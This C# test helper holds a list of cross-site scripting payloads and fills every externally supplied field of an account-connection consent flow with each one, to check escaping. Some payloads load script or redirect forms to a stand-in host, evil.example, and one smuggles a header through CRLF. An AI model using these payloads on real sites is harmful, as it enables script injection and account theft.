using Behalf.Accounts.Connect.Pages;

namespace Behalf.Tests.Accounts.Connect.Pages;

/// <summary>Names that somebody may give an app, a user or a permission to get a script into our page.</summary>
internal static class HostileStrings
{
    public static readonly string[] All =
    [
        "<script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</option></select><script>alert(1)</script>",
        "</bdi></h1></main><script>alert(1)</script>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "--><script>alert(1)</script>",
        "]]><script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script/src=data:,alert(1)></script>",
        "<script src=//evil.example/x.js></script>",
        "<<script>alert(1);//<</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=`x` onerror=alert(1)>",
        "\"><img src=x onerror=alert(1)>",
        "'><img src=x onerror=alert(1)>",
        "<img src=//evil.example/pixel>",
        "<image src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "</svg><img src=x onerror=alert(1)>",
        "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)>",
        "<embed src=//evil.example/x.swf>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<form action=//evil.example><button>Continue</button>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/x.css';</style>",
        "<p style=background:url(//evil.example/x)>",
        "\" onmouseover=\"alert(1)",
        "\" autofocus onfocus=alert(1) x=\"",
        "' autofocus onfocus=alert(1) x='",
        "x onfocus=alert(1) autofocus",
        "\" style=\"position:fixed;inset:0",
        "` onload=alert(1) `",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "@(alert(1))",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "x\0<script>alert(1)</script>",
        "\uD800<script>alert(1)</script>",
        "\u202E<script>alert(1)</script>",
        "line\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    ];

    /// <summary>Every page with <paramref name="text"/> in every field that an outsider can fill.</summary>
    public static Dictionary<string, IResult> Pages(string text)
    {
        var brand = new BrandView { AppTitle = text, AccentColor = text };
        var consent = SamplePages.Consent with
        {
            Brand = brand, ToolkitName = text, UserLabel = text, ProviderHost = text, AccountHint = text, AntiForgeryToken = text,
            Permissions = [new() { Title = text }, new() { Title = text, Sensitive = true }],
        };
        var field = new FieldView
        {
            Name = text, Label = text, Type = FieldKind.Text, Help = text, Placeholder = text, Pattern = text, Value = text,
            Error = text, Options = [new() { Value = text, Label = text }],
        };
        var pages = new Dictionary<string, IResult>
        {
            ["consent"] = PageResults.Connect(consent),
            ["reconnect"] = PageResults.Connect(consent with { Reconnect = true }),
            ["key"] = PageResults.Connect(consent with
            {
                Error = text, Fields = [.. Enum.GetValues<FieldKind>().Select(kind => field with { Type = kind })],
            }),
            ["handover"] = PageResults.Handover(new()
            {
                Brand = brand, Target = new Uri("https://provider.example/authorize?state=" + Uri.EscapeDataString(text) + "'\"<>"),
            }),
        };
        foreach (var kind in Enum.GetValues<OutcomeKind>())
        {
            pages.Add(Outcome.Of(kind).Reason, PageResults.Outcome(new()
            {
                Kind = kind, Brand = brand, ToolkitName = text, AccountHint = text, ReturnUrl = text, RequestId = text,
            }));
        }

        return pages;
    }
}
